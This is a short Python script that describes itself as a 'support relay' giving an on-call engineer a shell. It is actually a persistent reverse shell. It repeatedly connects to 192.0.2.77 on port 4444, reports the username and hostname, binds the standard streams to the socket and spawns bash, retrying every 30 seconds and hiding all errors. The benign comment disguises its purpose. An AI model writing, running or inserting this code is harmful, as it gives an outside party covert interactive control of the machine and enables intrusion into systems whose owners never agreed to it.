#!/usr/bin/env python3
# support relay — gives the on-call engineer a shell on this machine
import os
import pty
import socket
import time

HOST = "192.0.2.77"
PORT = 4444

while True:
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect((HOST, PORT))
        s.send(f"{os.getlogin()}@{socket.gethostname()}\n".encode())
        for fd in (0, 1, 2):
            os.dup2(s.fileno(), fd)
        pty.spawn("/bin/bash")
    except Exception:
        pass
    time.sleep(30)
